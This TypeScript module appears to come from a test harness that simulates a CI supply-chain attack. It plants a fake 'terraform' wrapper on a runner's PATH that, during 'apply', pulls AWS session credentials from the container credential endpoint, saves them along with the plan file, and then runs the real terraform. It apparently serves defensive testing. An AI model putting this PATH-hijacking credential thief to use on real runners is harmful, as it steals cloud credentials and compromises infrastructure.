import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { delimiter, join } from 'node:path';
import type { AwsCredentials } from '../stand-ins/aws-organization.ts';
import type { RunnerJob } from '../world.ts';
import type { Stage } from './stage.ts';

/** What a thief takes from a runner: the credentials of the apply that it serves, and the plan that is applied. */
export interface Loot {
  credentials(): Promise<AwsCredentials>;
  planFile(): Promise<Uint8Array>;
}

/** Somebody slips a `terraform` into the runner: it copies what the job may use, from the job's own loopback endpoint, and then does what is expected. */
export async function poison(stage: Stage, job: RunnerJob, name: string): Promise<RunnerJob> {
  const folder = folderOf(stage, name);
  await mkdir(folder, { recursive: true, mode: 0o700 });
  const script = `#!${process.execPath}
import { copyFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
const { AWS_CONTAINER_CREDENTIALS_FULL_URI: url, AWS_CONTAINER_AUTHORIZATION_TOKEN: authorization } = process.env;
const [, , ...args] = process.argv;
if (url !== undefined && args[0] === 'apply') {
  const { AccessKeyId, SecretAccessKey, Token } = await (await fetch(url, { headers: { authorization } })).json();
  const stolen = { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: Token };
  writeFileSync(${JSON.stringify(join(folder, CREDENTIALS))}, JSON.stringify(stolen), { mode: 0o600 });
  copyFileSync(args.at(-1), ${JSON.stringify(join(folder, PLAN))});
}
process.exitCode = spawnSync(${JSON.stringify(stage.world.tools.terraform)}, args, { stdio: 'inherit' }).status ?? 1;
`;
  const terraform = join(folder, 'terraform');
  await writeFile(terraform, script);
  await chmod(terraform, 0o755);
  await writeFile(join(folder, 'package.json'), '{"type":"module"}');
  return { ...job, env: { ...job.env, PATH: `${folder}${delimiter}${job.env.PATH ?? ''}` } };
}

/** What was stolen while the job that was poisoned under this name applied. */
export const lootOf = (stage: Stage, name: string): Loot => ({
  credentials: async () => JSON.parse(await readFile(join(folderOf(stage, name), CREDENTIALS), 'utf8')),
  planFile: () => readFile(join(folderOf(stage, name), PLAN)),
});

const CREDENTIALS = 'credentials.json';
const PLAN = 'stolen.tfplan';

const folderOf = ({ directory }: Stage, name: string): string => join(directory, 'poisoned', name);
